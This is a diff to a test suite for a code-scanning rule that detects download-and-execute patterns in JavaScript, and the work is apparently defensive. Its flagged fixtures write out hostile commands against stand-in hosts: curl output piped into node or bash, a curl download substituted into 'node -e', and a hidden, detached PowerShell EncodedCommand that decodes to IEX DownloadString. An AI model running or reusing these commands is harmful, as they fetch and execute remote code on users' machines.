@@ -13,6 +13,11 @@ ruleTest(rule, {
       file: 'scripts/ver.js',
       code: `require('child_process').execSync('git log --oneline | head -5');\n`,
     },
+    {
+      name: 'PowerShell -EncodedCommand that decodes to a harmless Get-ChildItem',
+      file: 'tools/ps.js',
+      code: "const { spawnSync } = require('child_process');\nspawnSync('powershell.exe', ['-NoP', '-EncodedCommand', 'RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=']);\n",
+    },
   ],
   flagged: [
     {
@@ -33,6 +38,24 @@ else exec('powershell -c "iwr https://vscode-settings.example.net/settings/win?f
         { line: 3, severity: 'high', confidence: 'high', decoded: "curl -s 'https://vscode-settings.example.net/settings/mac?flag=8' | bash" },
         { line: 4, severity: 'high', confidence: 'high' },
       ],
+    },
+    {
+      name: 'downloaded script piped into node at startup (critical: installers pipe into sh)',
+      file: 'index.js',
+      code: "const { exec } = require('child_process');\nexec('curl -s https://cdn.example.invalid/n.js | node', { windowsHide: true });\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'download substituted into node -e',
+      file: 'index.js',
+      code: 'const cp = require(\'child_process\');\ncp.exec(`node -e "$(curl -fsSL https://cdn.example.invalid/s.js)"`, () => {});\n',
+      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'PowerShell -EncodedCommand that decodes to IEX DownloadString',
+      file: 'index.js',
+      code: "const { spawn } = require('child_process');\nspawn('powershell.exe', ['-NoP', '-W', 'Hidden', '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGUAeABhAG0AcABsAGUALgBpAG4AdgBhAGwAaQBkAC8AYQAuAHAAcwAxACcAKQA='], { detached: true });\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.invalid/a.ps1')", message: /EncodedCommand/ }],
     },
   ],
 });
